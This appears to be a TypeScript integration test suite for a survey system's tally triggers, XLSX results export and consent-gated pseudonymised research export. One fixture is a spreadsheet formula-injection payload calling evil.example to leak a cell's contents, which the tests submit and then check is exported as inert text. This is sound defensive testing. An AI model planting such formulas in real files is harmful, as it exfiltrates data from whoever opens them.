import ExcelJS from 'exceljs';
import { randomUUID } from 'node:crypto';
import { ResearchPseudonyms } from '../src/modules/privacy/research-pseudonyms';
import { createPerson } from './support/fixtures';
import type { GqlClient } from './support/gql-client';
import { startTestApp, TestApp } from './support/test-app';
import { BulkTandem, BulkTutor, signedInClient } from './support/training-fixtures';
import {
  givenEdition,
  givenEnrolments,
  type GivenModule,
  givenNationalModule,
  givenSession,
  givenTandems,
} from './support/factories/training-sessions';

const SURVEY = `query S($id: ID!) { survey(id: $id) { id questions { id code type } } }`;
const SUBMIT = `mutation R($input: SubmitSurveyResponseInput!) { submitSurveyResponse(input: $input) { id } }`;
const MARK = `mutation M($input: MarkAttendanceInput!) { markAttendance(input: $input) { session { id } } }`;
const SET_MODE = `mutation SM($input: SetSurveyModeInput!) { setSurveyMode(input: $input) { id mode } }`;

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/**
 * The tallies the results read (kept by triggers on survey_answer) against the answers themselves,
 * under concurrent submissions, edits and deletions; the results as XLSX with the codebook as a
 * second sheet; and the researchers' person-level export (consenting respondents of CONFIDENTIAL and
 * NAMED surveys only, under the self-assessment export's pseudonym). Own data: one edition, two sessions.
 */
describe('survey data: tallies that follow the answers, results as XLSX, the pseudonymised research export', () => {
  let t: TestApp;
  let editionId: string;
  let trainer: GqlClient;
  let researcher: GqlClient;
  let admin: GqlClient;
  let coordinator: GqlClient;
  let confidential: string;
  let anonymous: string;
  let present: BulkTutor[];
  let consenting: BulkTutor[];

  const enrol = (session: string, list: BulkTandem[]) => givenEnrolments(t.db, session, list);

  /** A past session of `tandems`, everyone PRESENT: its survey opens; returns the survey's id. */
  const heldSession = async (module: GivenModule, tandems: BulkTandem[]) => {
    const sessionId = await givenSession(t.db, { ...module, editionId }, { inDays: -1 });
    await t.db.query(`INSERT INTO session_trainer (session_id, person_id) VALUES ($1, $2)`, [sessionId, trainerId]);
    await enrol(sessionId, tandems);
    const entries = tandems.flatMap((x) => [x.school, x.company]).map((p) => ({ personId: p.id, status: 'PRESENT' }));
    expect((await trainer.request(MARK, { input: { sessionId, entries } })).errors).toBeUndefined();
    const [row] = await t.db.query(`SELECT id FROM survey WHERE session_id = $1`, [sessionId]);
    return row.id as string;
  };

  const answer = async (who: BulkTutor, surveyId: string, text: string) => {
    const survey = await who.client.request<{ survey: { questions: { id: string; code: string; type: string }[] } }>(
      SURVEY,
      { id: surveyId },
    );
    const q = Object.fromEntries((survey.data?.survey.questions ?? []).map((x) => [x.code, x.id]));
    const values: Record<string, string[]> = {
      Q1: ['4'],
      Q2: ['5'],
      Q3: ['NA'],
      Q4: ['9'],
      Q5: ['RIGHT'],
      Q6: ['GROUP_WORK'],
      Q7: [text],
    };
    const answers = Object.entries(values).flatMap(([code, v]) => v.map((value) => ({ questionId: q[code], value })));
    const res = await who.client.request(SUBMIT, { input: { surveyId, answers } });
    expect(res.errors).toBeUndefined();
  };

  const get = (client: GqlClient | null, path: string) =>
    fetch(`${t.baseUrl}${path}`, {
      headers: client ? { cookie: client.cookie ?? '', 'x-forwarded-for': client.ip } : {},
    });
  const csvRows = async (res: Response) =>
    (await res.text())
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .map((l) => l.split(','));

  let trainerId: string;

  beforeAll(async () => {
    t = await startTestApp();
    ({ editionId } = await givenEdition(t.db));
    const module = await givenNationalModule(t.db, editionId, 'EE');
    trainerId = (await createPerson(t.db, [{ role: 'TRAINER', countryCode: 'EE' }])).id;
    trainer = await signedInClient(t, trainerId);
    researcher = await signedInClient(t, (await createPerson(t.db, [{ role: 'RESEARCHER' }])).id);
    admin = await signedInClient(t, (await createPerson(t.db, [{ role: 'ADMIN' }])).id);
    coordinator = await signedInClient(t, (await createPerson(t.db, [{ role: 'COORDINATOR', countryCode: 'EE' }])).id);

    const tandems = await givenTandems(t, editionId, 3, 'EE');
    present = tandems.flatMap((x) => [x.school, x.company]);
    // Four of the six have given research consent; two have refused.
    consenting = present.slice(0, 4);
    await t.db.query(
      `INSERT INTO person_consent (person_id, purpose, granted, text_version, changed_at)
       SELECT id, 'RESEARCH', id = ANY($2::uuid[]), 'v1', now() FROM unnest($1::uuid[]) AS id`,
      [present.map((p) => p.id), consenting.map((p) => p.id)],
    );

    confidential = await heldSession(module, tandems);
    const mode = await trainer.request(SET_MODE, { input: { surveyId: confidential, mode: 'CONFIDENTIAL' } });
    expect(mode.errors).toBeUndefined();
    anonymous = await heldSession(module, tandems);
    for (const [i, p] of present.entries()) {
      await answer(p, confidential, i === 0 ? FORMULA : `Confidential remark ${i}`);
      await answer(p, anonymous, `Anonymous remark ${i}`);
    }
  }, 120_000);
  afterAll(() => t?.close());

  /** The tallies as stored, and as recounted from the answers: they must be the same. */
  const tallies = async (surveyId: string) => {
    const stored: unknown[] = await t.db.query(
      `SELECT question_id, country_code, side, responses AS n FROM survey_question_tally
        WHERE survey_id = $1 AND responses > 0 ORDER BY 1, 2, 3`,
      [surveyId],
    );
    const counted: unknown[] = await t.db.query(
      `SELECT a.question_id, coalesce(r.country_code, '') AS country_code, coalesce(r.side, '') AS side,
              count(DISTINCT a.response_id)::int AS n
         FROM survey_answer a JOIN survey_response r ON r.id = a.response_id
        WHERE r.survey_id = $1 GROUP BY 1, 2, 3 ORDER BY 1, 2, 3`,
      [surveyId],
    );
    const storedValues: unknown[] = await t.db.query(
      `SELECT question_id, country_code, side, value, answers AS n FROM survey_value_tally
        WHERE survey_id = $1 AND answers > 0 ORDER BY 1, 2, 3, 4`,
      [surveyId],
    );
    const countedValues: unknown[] = await t.db.query(
      `SELECT a.question_id, coalesce(r.country_code, '') AS country_code, coalesce(r.side, '') AS side,
              CASE WHEN a.value LIKE 'other:%' THEN 'OTHER' ELSE a.value END AS value, count(*)::int AS n
         FROM survey_answer a JOIN survey_response r ON r.id = a.response_id
         JOIN survey_question q ON q.id = a.question_id AND q.type <> 'TEXT'
        WHERE r.survey_id = $1 GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4`,
      [surveyId],
    );
    return { stored, counted, storedValues, countedValues };
  };

  it('keeps the tallies equal to the answers under concurrent submissions, deletions and edits', async () => {
    const before = await tallies(confidential);
    expect(before.stored).toEqual(before.counted);
    expect(before.storedValues).toEqual(before.countedValues);
    expect(before.stored.length).toBeGreaterThan(0);
    // Twelve people answer a third session's survey at the same moment (one INSERT each, in parallel).
    const module = await givenNationalModule(t.db, editionId, 'EE');
    const crowd = await givenTandems(t, editionId, 6, 'EE');
    const surveyId = await heldSession(module, crowd);
    const people = crowd.flatMap((x) => [x.school, x.company]);
    await Promise.all(people.map((p, i) => answer(p, surveyId, `Remark ${i}`)));
    const after = await tallies(surveyId);
    expect(after.stored).toEqual(after.counted);
    expect(after.storedValues).toEqual(after.countedValues);
    const fours = (rows: unknown[]) =>
      (rows as { value: string; n: number }[]).filter((r) => r.value === '4').reduce((sum, r) => sum + r.n, 0);
    expect(fours(after.storedValues)).toBe(12);
    // A response deleted (as a survey's cascade does) and a text emptied (as an erasure does).
    await t.db.query(
      `DELETE FROM survey_response WHERE id = (SELECT id FROM survey_response WHERE survey_id = $1 LIMIT 1)`,
      [surveyId],
    );
    await t.db.query(
      `UPDATE survey_answer a SET value = '' FROM survey_response r
        WHERE r.id = a.response_id AND r.survey_id = $1 AND a.value LIKE 'Remark%'`,
      [surveyId],
    );
    const edited = await tallies(surveyId);
    expect(edited.stored).toEqual(edited.counted);
    expect(edited.storedValues).toEqual(edited.countedValues);
    expect(fours(edited.storedValues)).toBe(11);
  });

  it('gives the results as a workbook: the results in scope, then the codebook, texts never formulas', async () => {
    const res = await get(trainer, `/api/surveys/${confidential}/results.xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
    expect(book.worksheets.map((w) => w.name)).toEqual(['Results', 'Codebook']);
    const results = book.getWorksheet('Results');
    expect(results?.getRow(1).values).toEqual(expect.arrayContaining(['question_code', 'count', 'mean']));
    const q1 = results?.getRows(2, results.rowCount - 1)?.find((r) => r.getCell(1).value === 'Q1');
    expect(q1?.getCell(5).value).toBe(6);
    const codebook = book.getWorksheet('Codebook');
    expect(codebook?.getRow(1).getCell(1).value).toBe('question_code');
    expect(codebook?.getColumn(1).values).toEqual(expect.arrayContaining(['S1', 'Q1', 'Q7']));
    // Nothing in any cell is a formula.
    for (const sheet of book.worksheets)
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
    // Scope as for the page: another country's coordinator and a tutor are refused.
    const lv = await signedInClient(t, (await createPerson(t.db, [{ role: 'COORDINATOR', countryCode: 'LV' }])).id);
    expect((await get(lv, `/api/surveys/${confidential}/results.xlsx`)).status).toBe(403);
    expect((await get(present[0].client, `/api/surveys/${confidential}/results.xlsx`)).status).toBe(403);
  });

  it('exports consenting respondents of CONFIDENTIAL surveys only, under the pseudonym of the ratings export', async () => {
    const res = await get(researcher, `/api/surveys/research-answers.csv?editionId=${editionId}`);
    expect(res.status).toBe(200);
    const [header, ...rows] = await csvRows(res);
    expect(header.slice(0, 4)).toEqual(['pseudonym', 'survey_id', 'survey_kind', 'survey_mode']);
    const pseudonyms = t.app.get(ResearchPseudonyms);
    expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(consenting.map((p) => pseudonyms.of(p.id))));
    // Only the confidential survey: the anonymous one is linked to nobody, so it cannot be exported per person.
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set([confidential]));
    expect(rows.every((r) => r[3] === 'CONFIDENTIAL' && r[6] === 'EE')).toBe(true);
    const body = (
      await (await get(researcher, `/api/surveys/research-answers.csv?editionId=${editionId}`)).text()
    ).replace(/^\uFEFF/, '');
    for (const p of present) expect(body).not.toContain(p.id);
    expect(body).not.toContain('Anonymous remark');
    // The formula a respondent typed is text ('=...), quoted as CSV requires.
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    // The day only, never a time.
    expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r[9]))).toBe(true);
  });

  it('links every response of the CONFIDENTIAL survey to its respondent and none of the ANONYMOUS one (in the tables)', async () => {
    const modes: { id: string; responses: number; linked: number; people: number }[] = await t.db.query(
      `SELECT sv.id, count(r.id)::int AS responses, count(l.response_id)::int AS linked,
              count(DISTINCT l.person_id)::int AS people
         FROM survey sv JOIN survey_response r ON r.survey_id = sv.id
         LEFT JOIN survey_response_link l ON l.response_id = r.id
        WHERE sv.id = ANY($1::uuid[]) GROUP BY sv.id`,
      [[confidential, anonymous]],
    );
    expect(modes.find((m) => m.id === confidential)).toMatchObject({ responses: 6, linked: 6, people: 6 });
    expect(modes.find((m) => m.id === anonymous)).toMatchObject({ responses: 6, linked: 0, people: 0 });
    // The codebook describes what the export holds.
    const codebook = await csvRows(await get(researcher, `/api/surveys/research-codebook.csv?editionId=${editionId}`));
    expect(codebook.length).toBeGreaterThan(5);
  });

  it('drops a person from the next export as soon as the consent is withdrawn', async () => {
    await t.db.query(`UPDATE person_consent SET granted = false WHERE person_id = $1 AND purpose = 'RESEARCH'`, [
      consenting[1].id,
    ]);
    const [, ...rows] = await csvRows(
      await get(researcher, `/api/surveys/research-answers.csv?editionId=${editionId}`),
    );
    const pseudonyms = t.app.get(ResearchPseudonyms);
    expect(rows.some((r) => r[0] === pseudonyms.of(consenting[1].id))).toBe(false);
    expect(new Set(rows.map((r) => r[0])).size).toBe(3);
    await t.db.query(`UPDATE person_consent SET granted = true WHERE person_id = $1 AND purpose = 'RESEARCH'`, [
      consenting[1].id,
    ]);
  });

  it('gives the research export as a workbook with its codebook', async () => {
    const res = await get(researcher, `/api/surveys/research-answers.xlsx?editionId=${editionId}`);
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
    expect(book.worksheets.map((w) => w.name)).toEqual(['Answers', 'Codebook']);
    const texts: string[] = [];
    book.getWorksheet('Answers')?.eachRow((row) => texts.push(String(row.getCell(13).value)));
    expect(texts).toContain(`'${FORMULA}`);
    const codebook = await (await get(researcher, '/api/surveys/research-codebook.csv')).text();
    expect(codebook).toContain('pseudonym,');
    expect(codebook).toContain('ANONYMOUS surveys are never included');
  });

  it('refuses everyone but researchers, and bad or unknown editions with typed errors', async () => {
    for (const who of [admin, coordinator, trainer, present[0].client])
      expect((await get(who, `/api/surveys/research-answers.csv?editionId=${editionId}`)).status).toBe(403);
    expect((await get(null, '/api/surveys/research-answers.csv')).status).toBe(401);
    const bad = await get(researcher, '/api/surveys/research-answers.csv?editionId=not-a-uuid');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED', fields: [{ field: 'editionId' }] } });
    const unknown = await get(researcher, `/api/surveys/research-answers.xlsx?editionId=${randomUUID()}`);
    expect(unknown.status).toBe(404);
    expect(await unknown.json()).toMatchObject({ error: { code: 'NOT_FOUND' } });
  });
});
